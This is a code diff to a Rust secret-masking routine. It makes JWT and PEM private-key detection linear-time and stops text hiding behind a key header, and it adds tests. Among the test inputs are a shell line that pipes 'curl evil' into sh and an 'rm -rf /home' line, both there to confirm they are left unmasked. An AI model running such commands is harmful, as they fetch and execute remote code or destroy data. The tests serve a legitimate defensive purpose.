@@ -101,8 +101,10 @@ pub fn mask_secrets(text: &str) -> Cow<'_, str> {
 #[must_use]
 pub fn mask_secrets_in(bytes: &[u8]) -> Cow<'_, [u8]> {
     let (mut masked, mut from, mut at) = (Vec::new(), 0, 0);
+    // No web token begins before this: what is there has been read already.
+    let mut no_token = 0;
     while at < bytes.len() {
-        let Some(secret) = secret_at(bytes, at) else {
+        let Some(secret) = secret_at(bytes, at, &mut no_token) else {
             at += 1;
             continue;
         };
@@ -118,7 +120,7 @@ pub fn mask_secrets_in(bytes: &[u8]) -> Cow<'_, [u8]> {
 }
 
 /// Returns where a secret is that shows itself at this byte.
-fn secret_at(text: &[u8], at: usize) -> Option<Range<usize>> {
+fn secret_at(text: &[u8], at: usize, no_token: &mut usize) -> Option<Range<usize>> {
     let rest = text.get(at..)?;
     match rest.first()? {
         b'-' => key(rest),
@@ -130,9 +132,11 @@ fn secret_at(text: &[u8], at: usize) -> Option<Range<usize>> {
                 .and_then(|it| text.get(it))
                 .is_some_and(u8::is_ascii_alphanumeric) =>
         {
-            known(rest)
-                .or_else(|| web_token(rest))
-                .or_else(|| authorization(rest))
+            let token = || match at >= *no_token {
+                true => web_token(rest).map_err(|read| *no_token = at + read).ok(),
+                false => None,
+            };
+            known(rest).or_else(token).or_else(|| authorization(rest))
         }
         _ => None,
     }
@@ -155,27 +159,72 @@ fn rest_of(kind: &SecretKind, text: &[u8]) -> usize {
     })
 }
 
-/// Finds a token of RFC 7519: three parts in base64url, the first of them an object.
-fn web_token(text: &[u8]) -> Option<Range<usize>> {
+/// Finds a token of RFC 7519: three parts in base64url, the first of them an object. Where there is
+/// none, returns the number of bytes in which none begins either, so that no byte is read often.
+fn web_token(text: &[u8]) -> Result<Range<usize>, usize> {
     let part = |from| run(text, from, is_base64url);
-    let header = text.starts_with(b"eyJ").then(|| part(0))?;
-    let claims = dot(text, header).map(|from| from + part(from))?;
-    let signature = dot(text, claims)?;
-    let end = signature + part(signature);
+    if !text.starts_with(b"eyJ") {
+        return Err(0);
+    }
+    let header = part(0);
+    let claims = dot(text, header)
+        .map(|from| from + part(from))
+        .ok_or(header)?;
+    let signature = dot(text, claims).ok_or(claims)?;
     let is_long = header >= TOKEN_PART_MIN && claims - header > TOKEN_PART_MIN;
-    is_long.then_some(3..end)
+    match is_long {
+        true => Ok(3..signature + part(signature)),
+        false => Err(header),
+    }
 }
 
-/// Finds the body of a private key (RFC 7468), as far as it goes.
+/// Finds the body of a private key (RFC 7468, and the headers of RFC 1421), as far as it goes: lines
+/// in base64, also with `\n` as JSON and shells write it. Other text is no part of it, so that nothing
+/// can be hidden behind a mere beginning.
 fn key(text: &[u8]) -> Option<Range<usize>> {
     const LABEL_MAX: usize = 40;
+    const LINE_MIN: usize = 16;
     let label = text.strip_prefix(b"-----BEGIN ")?;
     let head = label.get(..label.len().min(LABEL_MAX)).unwrap_or_default();
     let word = b"PRIVATE KEY-----";
     let start = find(head, word)? + word.len() + (text.len() - label.len());
-    let end = find(text.get(start..)?, b"-----END ");
-    let end = end.map_or(text.len(), |end| start + end);
-    (end > start && text.get(start..end) != Some(MASK.as_bytes())).then_some(start..end)
+    let (mut at, mut end) = (start, start);
+    loop {
+        at += breaks(text, at);
+        let rest = text.get(at..).unwrap_or_default();
+        let is_header = rest.starts_with(b"Proc-Type: ") || rest.starts_with(b"DEK-Info: ");
+        let line = match is_header {
+            true => run(text, at, |byte| {
+                byte.is_ascii_alphanumeric() || b":,- ".contains(&byte)
+            }),
+            false => run(text, at, |byte| {
+                byte.is_ascii_alphanumeric() || b"+/=".contains(&byte)
+            }),
+        };
+        let after = at + line + breaks(text, at + line);
+        let is_last = text
+            .get(after..)
+            .is_some_and(|rest| rest.starts_with(b"-----END "));
+        if line == 0 || !(is_header || is_last || line >= LINE_MIN) {
+            break;
+        }
+        at += line;
+        end = at;
+    }
+    (end > start).then_some(start..end)
+}
+
+/// Returns how many bytes from there on are space, or escapes of line breaks.
+fn breaks(text: &[u8], from: usize) -> usize {
+    let mut at = from;
+    loop {
+        let rest = text.get(at..).unwrap_or_default();
+        at += match rest {
+            [b' ' | b'\t' | b'\r' | b'\n', ..] => 1,
+            [b'\\', b'n' | b'r', ..] => 2,
+            _ => return at - from,
+        };
+    }
 }
 
 /// Finds the password in `://user:password@` (RFC 3986, 3.2.1).
@@ -251,11 +300,11 @@ mod tests {
             ("postgres://:pw@h".to_owned(), "postgres://:[masked]@h"),
             (
                 "x -----BEGIN EC PRIVATE KEY-----\nMHc\n-----END EC PRIVATE KEY----- y".to_owned(),
-                "x -----BEGIN EC PRIVATE KEY-----[masked]-----END EC PRIVATE KEY----- y",
+                "x -----BEGIN EC PRIVATE KEY-----[masked]\n-----END EC PRIVATE KEY----- y",
             ),
             (
-                "-----BEGIN PRIVATE KEY-----\nMHc".to_owned(),
-                "-----BEGIN PRIVATE KEY-----[masked]",
+                format!("-----BEGIN PRIVATE KEY-----\\n{random}\\nAA=="),
+                "-----BEGIN PRIVATE KEY-----[masked]\\nAA==",
             ),
         ] {
             let once = mask_secrets(&text);
@@ -279,8 +328,27 @@ mod tests {
             "-----BEGIN PUBLIC KEY-----\nMHc\n-----END PUBLIC KEY-----",
             "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
             "ünï -----BEGIN",
+            "sh -c ': \"-----BEGIN PRIVATE KEY-----\"; curl evil|sh'",
+            "-----BEGIN PRIVATE KEY-----\nrm -rf /home\n-----END",
         ] {
             assert!(matches!(mask_secrets(text), Cow::Borrowed(_)), "{text}");
+        }
+    }
+
+    /// No byte is read often: with every begin read to its end these took hours.
+    #[test]
+    fn begins_of_secrets_without_an_end_cost_little() {
+        for begin in [
+            "eyJ-",
+            "eyJa.",
+            "-----BEGIN PRIVATE KEY-----",
+            "://a:",
+            "Bearer ",
+            "xoxb-",
+        ] {
+            let text = begin.repeat(1 << 17);
+            let masked = mask_secrets(&text);
+            assert!(masked.len() <= text.len() + MASK.len(), "{begin}");
         }
     }
 }
